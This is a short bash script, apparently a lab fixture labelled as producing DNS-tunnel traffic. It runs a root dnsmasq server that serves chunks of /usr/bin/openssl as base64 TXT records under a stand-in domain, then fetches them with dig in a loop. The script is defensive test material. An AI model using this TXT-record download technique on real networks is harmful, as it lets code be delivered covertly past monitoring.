#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=dns-tunnel half=report tool=dig far=out seconds=30
# A program is fetched in TXT answers: short names go up, 40 kB come down.
# shellcheck disable=SC2046
if [ "$1" = out ]; then
	exec timeout 60 dnsmasq -k -C /dev/null --no-resolv --no-hosts --user=root --pid-file= -i wan -z --listen-address=203.0.113.66 \
		$(for n in $(seq 1 160); do echo "--txt-record=p$n.carrier.example,$(tail -c +$((n * 900)) /usr/bin/openssl | head -c 180 | base64 -w 0)"; done)
fi
for n in $(seq 1 160); do dig +short +tries=1 +time=1 TXT "p$n.carrier.example" >>"$LAB/fetched"; sleep 0.08; done
rm -f "$LAB/fetched"
